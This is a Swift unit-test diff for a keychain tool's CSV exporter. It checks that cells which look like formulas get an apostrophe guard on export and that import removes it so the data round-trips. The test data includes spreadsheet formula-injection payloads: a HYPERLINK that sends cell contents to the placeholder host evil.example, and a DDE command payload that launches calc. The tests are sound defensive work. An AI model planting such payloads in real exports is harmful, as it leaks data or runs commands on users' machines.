@@ -48,4 +48,43 @@ final class CSVWriterTests: XCTestCase {
         XCTAssertFalse(out.capturedText.contains("hunter2"))
         XCTAssertTrue(out.capturedText.hasSuffix(",,\r\n"))
     }
+
+    /// Security review L6: a cell a spreadsheet would take for a formula (it begins with =, +, -, @,
+    /// tab or CR) is written with a leading apostrophe, secrets included, and kc's own import takes
+    /// it off again, so export and import round-trip exactly.
+    func testFormulaCellsGetAnApostropheThatImportTakesOff() throws {
+        let values: [Attribute: String] = [
+            .service: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", .account: "=1+2", .comment: "@SUM(1)",
+            .label: "-2+3", .description: "+1", .generic: "\tcmd",
+        ]
+        let items = [item(Array("=cmd|' /C calc'!A0".utf8), values),
+                     item(Array("-x".utf8), [.service: "''+two", .account: "'plain", .label: "'=already", .comment: "\rx"])]
+        let out = Output()
+        CSVWriter.write(items, withSecrets: true, to: out)
+        out.flush()
+        let text = out.capturedText
+        for expected in ["'=HYPERLINK(", ",'=1+2,", ",'@SUM(1),", ",'-2+3,", ",'+1,", ",'\tcmd,", ",\"'\rx\",", ",''=already,",
+                         ",\"'=cmd|' /C calc'!A0\",", ",\"'-x\",", ",'''+two,"] {
+            XCTAssertTrue(text.contains(expected), "\(expected) not in \(text)")
+        }
+        XCTAssertTrue(text.contains(",'plain,"), "an apostrophe before anything else is left as it is: \(text)")
+        let rows = try out.captured.withUnsafeBytes { ItemCSVReader.read($0) }.get()
+        XCTAssertEqual(rows.count, 2)
+        for (row, original) in zip(rows, items) {
+            let read = try row.result.get()
+            XCTAssertEqual(read.attributes, original.attributes)
+            XCTAssertEqual(read.secret.copyBytes(), original.secret.copyBytes())
+        }
+    }
+
+    /// Which cells are guarded: a formula character first, after any apostrophes (so that an
+    /// apostrophe kc did not add survives the import), never anything else.
+    func testTheGuardRule() {
+        for guarded in ["=", "+1", "-", "@x", "\t", "\r", "'=", "''-x"] {
+            XCTAssertTrue(ItemCSVReader.needsFormulaGuard(Array(guarded.utf8)), guarded)
+        }
+        for plain in ["", "a=b", "'", "'a", "''", " =x", "1-2"] {
+            XCTAssertFalse(ItemCSVReader.needsFormulaGuard(Array(plain.utf8)), plain)
+        }
+    }
 }
